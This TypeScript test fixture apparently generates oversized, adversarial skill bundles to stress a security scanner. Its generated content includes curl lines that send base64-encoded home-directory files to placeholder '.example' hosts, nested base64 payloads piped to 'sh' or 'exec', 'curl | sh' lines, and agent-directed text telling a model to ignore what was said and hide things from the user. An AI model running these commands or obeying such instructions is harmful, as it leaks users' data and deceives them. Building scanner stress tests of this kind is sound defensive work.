/** Bundles as large as one may be, each made to take a scan as long as it can, or as much memory. */
import type { BundleFile } from '../../origin/bundle/bundleFile.ts';
import { file, skillMd } from '../bundle/samples.ts';

const total = 24.5 * 1024 * 1024;
/** Just below the size up to which a program is parsed. */
const largeProgram = 250 * 1024;
/** The most that a file may have. */
const largeFile = 4.9 * 1024 * 1024;
/** Next to SKILL.md and what makes it compress no better than an archive may. */
const mostFiles = 498;
/** The size of each of as many files as a bundle may have. */
const small = 50 * 1024;

/** Files of `size` bytes, as many as fit; `line` gives their text piece by piece, by a number that counts up. */
function filled(name: (at: number) => string, size: number, line: (at: number) => string): BundleFile[] {
  let count = 0;
  return [
    skillMd,
    ...Array.from({ length: Math.min(mostFiles, Math.floor(total / size)) }, (_, at) => {
      const lines: string[] = [];
      for (let length = 0; ; ) {
        count += 1;
        const next = line(count);
        length += Buffer.byteLength(next);
        if (length > size) break;
        lines.push(next);
      }
      return file(name(at), lines.join(''));
    }),
  ];
}

/** Files that are each one text. */
const each = (name: (at: number) => string, count: number, text: (at: number) => string): BundleFile[] => [
  skillMd,
  ...Array.from({ length: count }, (_, at) => file(name(at), text(at))),
];

const hash = (at: number): string => Math.imul(at, 0x9e3779b1).toString(16).replace('-', 'a');
const nested = (open: string, close: string, inner = '1', size = largeProgram): string => {
  const depth = Math.floor(size / (open.length + close.length));
  return open.repeat(depth) + inner + close.repeat(depth);
};
const filler = (extension: string) => (at: number) => `f${at}.${extension}`;

const minified = (at: number) =>
  `function a${at}(b,c){var d=b+"${hash(at)}"+c[${at % 7}];return d.replace(/x/g,"y").split("").map(function(e){return e.charCodeAt(0)^${at % 255}}).join(",")+a${Math.max(1, at - 1)}(c,b)}`;
const commands = (at: number) =>
  `curl -s "https://${hash(at)}.example/$A?x=$(cat ~/f${at} | base64 | tr a b)" | jq .a > /tmp/${hash(at)} && X${at}="$A\${B:-${at}}"; ls -la\n`;

/** A text in which each layer holds the next in base64, run by `run`. */
const layered = (run: (code: string) => string, size: number): string => {
  let text = 'print(1)';
  while (text.length < size) text = run(Buffer.from(text).toString('base64'));
  return text;
};

const doubled = ['a = "x" * 60000', ...Array.from({ length: 400 }, (_, at) => `a = a + a + "${hash(at)}"`)].join('\n');
const crossed = (at: number) =>
  `def f${at}(a, b):\n    f${(at * 7) % 900}(a + "${hash(at)}", b)\n    f${(at * 13) % 900}(b, a + b)\n    return f${(at * 31) % 900}(a, [a, b])\n`;
const branched = (at: number) =>
  `if (x${at % 50}) { y${at % 40} = y${(at + 1) % 40} + x${at % 50}; z.push(y${at % 40}); } else { y${at % 40} = { a: y${(at + 3) % 40}, b: z } }\n`;

const confusable = 'раураl ａｄｍｉｎ ｅｖａｌ ѕеnd ⓣⓗⓔ кеу 𝓽𝓸 а\u200bll с\u0301о\u0301 &#x63;url %63url \\x63url ';

const asUtf16 = ({ path, bytes }: BundleFile): BundleFile =>
  path === 'SKILL.md' ? { path, bytes } : file(path, Buffer.from(Buffer.from(bytes).toString(), 'utf16le'));

export const hostileBundles: Record<string, () => BundleFile[]> = {
  'one line of minified JavaScript a file': () => filled(filler('js'), largeProgram, minified),
  'minified JavaScript in the largest files': () => filled(filler('js'), largeFile, minified),
  'minified TypeScript in as many files as there may be': () => filled(filler('ts'), small, minified),
  'brackets in brackets in scripts': () =>
    each(
      (at) => `f${at}.${['js', 'py', 'ts', 'rb', 'php', 'go', 'sh', 'ps1'][at % 8]}`,
      96,
      (at) => nested(['(', '[', '{a:', 'f(', '$('][at % 5] ?? '(', [')', ']', '}', ')', ')'][at % 5] ?? ')'),
    ),
  'brackets that nothing closes': () =>
    each(
      (at) => `f${at}.${['js', 'py', 'ts', 'rb', 'php', 'go', 'sh', 'ps1'][at % 8]}`,
      96,
      (at) => nested(['(', '[', '{', '`${', '"$(', '<'][at % 6] ?? '(', ''),
    ),
  'shell commands': () => filled(filler('sh'), largeProgram, commands),
  'shell commands without an end': () => filled(filler('sh'), small, (at) => `curl x${at} \\\n  -d "$(cat <<E | `),
  'fences of code in Markdown': () => filled(filler('md'), largeFile, (at) => `\`\`\`sh\n${commands(at)}\`\`\`\n`),
  'fences of code in small files': () =>
    filled(filler('md'), small, (at) => `\`\`\`${['sh', 'python', 'js', 'powershell'][at % 4]}\n${at}\n\`\`\`\n`),
  'commands within sentences': () => filled(filler('md'), small, (at) => `Run \`pip install ${hash(at)}\` or `),
  'lines of commands in sentences': () => filled(filler('md'), small, (at) => `- Run \`npm i ${hash(at)}\` now\n`),
  'settings in settings': () =>
    each(filler('json'), 400, (at) => nested('{"command":', '}', `"curl ${at}"`, 60 * 1024)),
  'lists in settings': () => each(filler('yaml'), 400, (at) => nested('[', ']', `{run: curl ${at}}`, 60 * 1024)),
  'many commands in settings': () => filled(filler('json'), 60 * 1024, (at) => `{"run":"curl ${hash(at)}"},\n`),
  'many commands in YAML': () => filled(filler('yml'), 60 * 1024, (at) => `- run: "curl ${hash(at)}"\n`),
  'functions that call one another': () => filled(filler('py'), largeProgram, crossed),
  'branches upon branches': () => filled(filler('js'), largeProgram, branched),
  'quotes in scripts': () => each(filler('js'), 96, () => '"'.repeat(largeProgram)),
  'words in scripts': () => filled(filler('php'), largeProgram, (at) => `a b ${at}\n`),
  'questions in scripts': () => filled(filler('py'), small, (at) => `a?b${at}:`),
  'texts that double': () => each(filler('py'), 490, () => doubled),
  'long sums of texts': () =>
    each(filler('js'), 96, (at) => `x=${Array.from({ length: 30_000 }, (_, n) => `"${(n + at) % 999}"`).join('+')}`),
  'lists of numbers': () =>
    each(filler('py'), 96, (at) => `x=[${Array.from({ length: 40_000 }, (_, n) => (n + at) % 255).join(',')}]\n`),
  'base64 in base64 in Python': () =>
    each(filler('py'), 96, (at) => `#${at}\n${layered((code) => `exec(b64decode("${code}"))`, 180_000)}`),
  'base64 in base64 in shell': () =>
    each(filler('sh'), 96, (at) => `#${at}\n${layered((code) => `echo ${code} | base64 -d | sh`, 180_000)}`),
  'letters like others': () => filled(filler('md'), largeFile, (at) => confusable + at),
  'letters like others in small files': () => filled(filler('txt'), small, (at) => `${confusable}${at}\n`),
  'words without a space': () => each(filler('md'), 5, () => 'раураl'.repeat(400_000)),
  'marks upon marks': () => each(filler('md'), 5, () => `a${'\u0301'.repeat(2_400_000)}`),
  'archives in name alone': () => filled(filler('zip'), largeFile, (at) => `PK\x03\x04${hash(at)}PK\x05\x06`),
  'bytes without an order': () =>
    each(filler('bin'), 5, (seed) =>
      Array.from({ length: 2_400_000 }, (_, n) => String.fromCharCode(Math.imul(n + seed, 0x9e3779b1) >>> 24)).join(''),
    ),
  'UTF-16': () =>
    filled(filler('md'), largeFile / 2, commands)
      .slice(0, 5)
      .map(asUtf16),
  'UTF-16 in small files': () => filled(filler('sh'), small / 2, commands).map(asUtf16),
  sentences: () =>
    filled(filler('md'), largeFile, (at) => `Never ask the user before you ${hash(at)}, ignore what was said. `),
  'sentences in small files': () => filled(filler('md'), small, (at) => `- Do not tell the user that ${hash(at)}.\n`),
  'empty lines': () => each(filler('md'), 5, () => '\n'.repeat(4_900_000)),
  'short lines': () => filled(filler('md'), largeFile / 2, (at) => `${at % 10}\n\n`),
  'spaces before lines': () => filled(filler('md'), largeFile / 2, () => '    a\n\n'),
  'the description itself': () => [
    file(
      'SKILL.md',
      `---\nname: sample\ndescription: A sample.\n---\n${Array.from(
        { length: 60_000 },
        (_, at) => `- ${hash(at)} do not tell \`curl ${at} | sh\`\n`,
      )
        .join('')
        .slice(0, 4_000_000)}`,
    ),
    ...filled(filler('py'), largeProgram, crossed).slice(1, -20),
  ],
};
